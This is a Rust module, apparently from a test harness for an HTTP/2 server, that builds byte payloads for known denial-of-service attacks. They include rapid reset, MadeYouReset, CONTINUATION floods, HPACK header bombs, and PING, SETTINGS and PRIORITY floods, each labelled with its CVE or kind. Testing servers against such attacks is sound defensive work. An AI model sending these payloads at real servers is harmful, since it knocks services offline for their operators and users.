//! Attacks as bytes that follow the preface, each by the kind that it is counted as.

use super::attacker::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, begun, frame, get, more, request, setting, streams, window,
};

/// An attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) kind: &'static str,
    pub(super) bytes: Vec<u8>,
}

/// How often a frame is repeated that should not even come a thousand times.
const MANY: usize = 20_000;

/// All of them.
pub(super) fn all() -> Vec<Attack> {
    let attack = |name, kind, bytes| Attack { name, kind, bytes };
    let flood = |frame: Vec<u8>| frame.repeat(MANY);
    let each = |frames: fn(u32) -> Vec<u8>| streams(MANY as u32).flat_map(frames).collect();
    let in_stream = |frame: Vec<u8>| [begun(1, "/echo"), flood(frame)].concat();
    vec![
        attack("CVE-2023-44487, rapid reset", "resets", each(taken_back)),
        attack(
            "CVE-2025-8671, MadeYouReset",
            "stream_faults",
            each(made_you_reset),
        ),
        attack("bodies that are too long", "stream_faults", each(overlong)),
        attack(
            "CVE-2024-27316, CONTINUATION",
            "continuation",
            continuation(),
        ),
        attack("empty CONTINUATION", "continuation", empty_continuation()),
        attack("bomb of small fields", "fields", bomb("a", "")),
        attack("bomb of cookies", "fields", bomb("cookie", "")),
        attack(
            "bomb of large fields",
            "fields",
            bomb("x", &"x".repeat(100)),
        ),
        attack(
            "CVE-2019-9518, empty DATA",
            "empty",
            in_stream(frame(DATA, 0, 1, b"")),
        ),
        attack(
            "padding with nothing in it",
            "empty",
            in_stream(frame(DATA, 8, 1, &[2, 0, 0])),
        ),
        attack(
            "CVE-2019-9512, PING",
            "ping",
            flood(frame(PING, 0, 0, &[0; 8])),
        ),
        attack(
            "answers to no PING",
            "ping",
            flood(frame(PING, 1, 0, &[0; 8])),
        ),
        attack(
            "CVE-2019-9515, SETTINGS",
            "settings",
            flood(frame(SETTINGS, 0, 0, &setting(3, 100))),
        ),
        attack(
            "empty SETTINGS",
            "settings",
            flood(frame(SETTINGS, 0, 0, b"")),
        ),
        attack(
            "CVE-2019-9513, PRIORITY",
            "priority",
            flood(frame(PRIORITY, 0, 3, &[0, 0, 0, 0, 1])),
        ),
        attack("WINDOW_UPDATE", "window_update", flood(more(0, 1))),
        attack(
            "windows of a stream",
            "window_update",
            in_stream(more(1, 1)),
        ),
        attack(
            "a body in frames of a byte",
            "library",
            in_stream(frame(DATA, 0, 1, b"x")),
        ),
        attack("unknown frames", "other", flood(frame(0x42, 0, 0, b""))),
        attack("GOAWAY", "other", flood(frame(GOAWAY, 0, 0, &[0; 8]))),
    ]
}

fn taken_back(stream: u32) -> Vec<u8> {
    let cancel = frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
    [request(stream, "/v1/models"), cancel].concat()
}

/// A window that is too large is a fault of its stream (RFC 9113 section 6.9.1).
fn made_you_reset(stream: u32) -> Vec<u8> {
    [request(stream, "/v1/models"), more(stream, 0x7fff_ffff)].concat()
}

/// So is more than was announced (RFC 9113 section 8.1.1).
fn overlong(stream: u32) -> Vec<u8> {
    // content-length: 1, by the index of its name.
    let fields = [&super::attacker::post("/echo")[..], &[0x0f, 13, 1, b'1']].concat();
    let head = frame(HEADERS, END_HEADERS, stream, &fields);
    [head, frame(DATA, END_STREAM, stream, b"abc")].concat()
}

fn continuation() -> Vec<u8> {
    // A value that goes on for as long as its length says, 16 MiB.
    let mut head = get("/");
    head.extend([0, 1, b'a', 0x7f, 0x81, 0xff, 0xff, 0x07]);
    let more = frame(CONTINUATION, 0, 1, &[b'x'; 16_000]);
    [frame(HEADERS, END_STREAM, 1, &head), more.repeat(1000)].concat()
}

fn empty_continuation() -> Vec<u8> {
    let more = frame(CONTINUATION, 0, 1, b"");
    [frame(HEADERS, END_STREAM, 1, &get("/")), more.repeat(MANY)].concat()
}

/// A field is put into the table once, and then named by one byte, four thousand times in each
/// of as many requests as may be open; none of their answers can be sent.
fn bomb(name: &str, value: &str) -> Vec<u8> {
    let mut first = get("/plain");
    first.extend([0x40, name.len() as u8]);
    first.extend(name.bytes());
    first.push(value.len() as u8);
    first.extend(value.bytes());
    let last_index = 0x80 | 62;
    let mut fields = get("/plain");
    fields.extend([last_index; 4000]);
    let mut bytes = window(0);
    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1, &first));
    for stream in streams(100).skip(1) {
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields));
    }
    bytes
}
